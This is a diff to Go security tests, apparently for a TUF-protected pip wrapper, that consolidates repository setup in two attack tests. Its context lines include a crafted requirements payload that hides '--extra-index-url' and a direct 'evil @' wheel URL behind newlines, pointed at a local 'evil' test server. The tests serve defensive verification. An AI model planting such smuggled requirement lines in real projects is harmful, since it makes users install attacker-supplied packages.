@@ -63,9 +63,7 @@ func TestAttackRequirementsEncoding(t *testing.T) {
 	t.Parallel()
 	needTufpip(t)
 	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
-		r := newPipRepo(t)
-		r.seed()
-		r.publish()
+		r := newSeededPipRepo(t)
 		evil := newEvilServer(t)
 		hidden := "\n--extra-index-url " + evil.URL + "/simple/\nevil @ " + evil.URL + "/" + evil.wheel + "\n"
 		dir := t.TempDir()
@@ -170,9 +168,7 @@ func TestAttackWhitespaceLocalWheel(t *testing.T) {
 	t.Parallel()
 	needTufpip(t)
 	interpreters(t, func(t *testing.T, py pyfix.Interpreter) {
-		r := newPipRepo(t)
-		r.seed()
-		r.publish()
+		r := newSeededPipRepo(t)
 		out, err := exec.Command(py.Path, "-c",
 			"import sys; print(' '.join(str(c) for c in range(sys.maxunicode+1) if chr(c).isspace()))").Output()
 		if err != nil {
